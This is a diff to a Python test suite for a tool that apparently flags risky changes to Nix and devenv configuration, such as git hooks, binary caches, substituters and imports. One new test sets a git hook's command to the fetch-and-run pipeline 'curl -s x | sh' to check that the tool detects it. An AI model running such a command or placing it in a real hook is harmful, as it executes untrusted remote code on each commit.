@@ -176,14 +176,28 @@ CASES: list[tuple[str, Callable[[str], str], str | None, dict[str, Any], list[st
         append("git-hooks.hooks.shellcheck.enable = true;"),
         "shellcheck",
         {"git_hooks": {"added": [e("shellcheck")]}},
-        [],
+        ["runs_on_commit"],
     ),
     (
         "git-hooks-nested",
         append("pre-commit = { hooks = { shellcheck = { enable = true; }; }; };"),
         "shellcheck",
         {"git_hooks": {"added": [e("shellcheck")]}},
-        [],
+        ["runs_on_commit"],
+    ),
+    (
+        "binary-cache",
+        append('cachix.pull = [ "someone-elses" ];'),
+        "cachix.pull",
+        {"other": {"added": [e("cachix.pull")]}},
+        ["new_code_source"],
+    ),
+    (
+        "substituters",
+        append('nix.settings.extra-substituters = [ "https://cache.example.org" ];'),
+        "extra-substituters",
+        {"other": {"added": [e("nix.settings.extra-substituters")]}},
+        ["new_code_source"],
     ),
     ("imports", append("imports = [ ./extra.nix ];"), "extra.nix", {"imports": {"added": [e("./extra.nix")]}}, ["new_code_source"]),
     (
@@ -564,6 +578,17 @@ def test_a_change_to_the_gates_own_configuration_is_an_agent_permissions_risk() 
         card = compute_card([FilePair("omni-tui.toml", old, after)]).to_json()
         assert [(r["risk"], [c["file"] for c in r["causes"]]) for r in card["risks"]] == [("agent_permissions", ["omni-tui.toml"])]
         assert [f["name"] for f in card["files"]["changed" if old else "added"]] == ["omni-tui.toml"]
+
+
+def test_a_git_hook_whose_command_changes_runs_on_commit_and_one_turned_off_does_not() -> None:
+    before = b'{ pkgs, ... }: {\n  git-hooks.hooks.lint = { enable = true; entry = "make lint"; };\n}\n'
+
+    def risks(after: bytes) -> list[tuple[str, str]]:
+        card = compute_card([FilePair("devenv.nix", before, after)]).to_json()
+        return [(r["risk"], c["why"]) for r in card["risks"] for c in r["causes"]]
+
+    assert risks(before.replace(b"make lint", b"curl -s x | sh")) == [("runs_on_commit", 'git hook lint runs on commit: "curl -s x | sh"')]
+    assert risks(before.replace(b"enable = true", b"enable = false")) == []
 
 
 def test_hostile_shapes_neither_crash_nor_hide_a_package() -> None:
